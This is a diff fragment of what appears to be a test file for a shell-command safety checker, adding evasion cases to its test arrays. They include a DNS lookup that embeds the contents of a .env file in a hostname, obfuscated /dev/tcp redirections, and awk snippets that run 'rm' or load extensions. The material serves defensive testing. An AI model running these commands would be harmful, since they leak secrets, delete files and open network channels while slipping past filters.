@@ -378,6 +378,8 @@ p=/dev/tcp; cat < $p/127.0.0.1/1
 p=/dev/tcp; cat < "$p/127.0.0.1/1"
 cd /dev; cat < $PWD/tcp/127.0.0.1/1
 cat < /dev/tc?/127.0.0.1/1
+getent hosts $(head -c 60 .env).example.com
+getent ahosts x.example.com
 `
 
 const MANY_LINES: ReadonlyArray<string> = [
@@ -408,6 +410,9 @@ const MANY_LINES: ReadonlyArray<string> = [
   "bash <<'E'\nread -r x\ncat <<F\nrm x\nF\nE",
   "bash <<-E\n\tcat <<X\n\tX\n\trm x\nX\nE",
   'cat <<"E"\nE\nrm x',
+  `awk 'BEGIN {\nsystem("rm x") }'`,
+  `awk '\n@load "x"\n{}'`,
+  `awk '{ print }\n{ "x"\n getline }' file`,
   "if ls\nthen rm x\nfi",
   "for f in a\ndo\nrm x\ndone",
   "case x in\nx) rm x\nesac",
